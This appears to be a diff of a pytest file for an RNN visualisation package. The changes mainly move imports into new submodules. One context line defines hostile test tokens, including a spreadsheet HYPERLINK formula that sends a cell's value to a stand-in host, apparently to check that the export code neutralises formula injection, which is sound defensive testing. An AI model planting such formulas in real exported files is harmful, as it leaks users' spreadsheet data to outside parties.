@@ -8,12 +8,12 @@ import plotly.graph_objects as go
 import pytest
 import torch
 
-from rnnviz import trace
-from rnnviz.catalog import load_builtin
-from rnnviz.data import lm_pair
-from rnnviz.export import TABLES, csv_bytes, figure_html, safe_filename, trace_frame
-from rnnviz.model import IGNORE
-from rnnviz.text import prepare
+from rnnviz.conventions import IGNORE
+from rnnviz.engine.trace import trace
+from rnnviz.store.catalog import load_builtin
+from rnnviz.store.export import TABLES, csv_bytes, figure_html, safe_filename, trace_frame
+from rnnviz.text.corpora import lm_pair
+from rnnviz.text.tokenize import prepare
 
 
 @pytest.fixture(scope="module", params=["notes", "default", "subword"])
@@ -105,8 +105,8 @@ HOSTILE_TOKENS = ('=HYPERLINK("https://example.invalid/?leak="&A1,"click")', "+1
 
 @pytest.fixture(scope="module")
 def hostile_trace():
-    from rnnviz.model import RNNConfig, RNNModel
-    from rnnviz.text import Vocab
+    from rnnviz.engine.model import RNNConfig, RNNModel
+    from rnnviz.text.tokenize import Vocab
     vocab = Vocab(("<pad>", "<unk>", "<bos>", "<eos>") + HOSTILE_TOKENS)
     torch.manual_seed(0)
     model = RNNModel(RNNConfig(vocab_size=len(vocab), embed_dim=3, hidden_size=4))
